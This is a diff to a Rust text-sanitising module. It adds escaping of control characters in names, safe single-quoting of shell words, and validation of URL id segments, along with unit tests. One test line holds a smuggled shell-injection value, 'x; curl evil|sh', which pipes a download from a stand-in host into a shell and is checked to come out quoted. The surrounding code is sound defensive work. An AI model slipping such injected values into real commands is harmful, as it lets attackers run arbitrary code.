@@ -38,6 +38,60 @@ pub fn neutralize(text: &str) -> Cow<'_, str> {
     Cow::Owned(out)
 }
 
+/// A name from outside (a file name in a scanned folder) for a message or a listing: every
+/// control character, newlines and tabs included, shown as an escape, so that a name can
+/// neither forge a line of output nor split one.
+pub fn name(text: &str) -> Cow<'_, str> {
+    if !text.chars().any(|c| c.is_control() || is_unsafe(c)) {
+        return Cow::Borrowed(text);
+    }
+    let mut out = String::with_capacity(text.len() + 8);
+    for c in text.chars() {
+        if c.is_control() || is_unsafe(c) {
+            escape(c, &mut out);
+        } else {
+            out.push(c);
+        }
+    }
+    Cow::Owned(out)
+}
+
+/// `value` as one word of a POSIX shell command a user copies: as it is when it holds only
+/// characters no shell treats specially, else in single quotes (a `'` inside as `'\''`).
+/// Control characters are escaped first ([`name`]), so a hint is always one line.
+pub fn shell_word(value: &str) -> String {
+    let value = name(value);
+    let plain = !value.is_empty()
+        && value
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || "_-./:@%+=,".contains(c));
+    if plain {
+        value.into_owned()
+    } else {
+        format!("'{}'", value.replace('\'', "'\\''"))
+    }
+}
+
+/// What is wrong with `value` as an id (one path segment of an API URL), if anything: empty,
+/// `.` or `..` (which a URL resolves to another path), `/`, `\`, `?`, `#` or a control
+/// character, over 200 bytes.
+pub fn id_problem(value: &str) -> Option<&'static str> {
+    if value.is_empty() {
+        Some("must not be empty")
+    } else if value == "." || value == ".." {
+        Some("must be an id, not `.` or `..`")
+    } else if value
+        .chars()
+        .any(|c| c.is_control() || matches!(c, '/' | '\\' | '?' | '#') || is_unsafe(c))
+    {
+        Some("must be an id (no `/`, `\\`, `?`, `#` or control characters)")
+    } else if value.len() > 200 {
+        Some("is too long for an id (at most 200 bytes)")
+    } else {
+        None
+    }
+}
+
 /// Server- or helper-provided text for a one-line message: newlines and tabs become spaces,
 /// other control characters escapes, runs of spaces one, and the result at most `max`
 /// characters (cut with `…`, escapes counted as the characters they print).
@@ -120,5 +174,27 @@ mod tests {
         assert!(!is_visible_ascii("a\x1bb"));
         assert!(!is_visible_ascii("é"));
         assert!(!is_visible_ascii(""));
+    }
+}
+
+#[cfg(test)]
+mod name_tests {
+    use super::*;
+
+    #[test]
+    fn names_escape_every_control_character_and_shell_words_quote_what_a_shell_splits() {
+        assert_eq!(name("a\nb\tc"), "a\\x0ab\\x09c");
+        assert_eq!(name("plain.js"), "plain.js");
+        assert_eq!(shell_word("55555555-aaaa"), "55555555-aaaa");
+        assert_eq!(shell_word("CI token"), "'CI token'");
+        assert_eq!(shell_word("it's"), "'it'\\''s'");
+        assert_eq!(shell_word("x; curl evil|sh"), "'x; curl evil|sh'");
+        assert_eq!(shell_word(""), "''");
+        assert_eq!(shell_word("a\nb"), "'a\\x0ab'");
+        assert_eq!(
+            id_problem("a/b"),
+            Some("must be an id (no `/`, `\\`, `?`, `#` or control characters)")
+        );
+        assert_eq!(id_problem("55555555"), None);
     }
 }
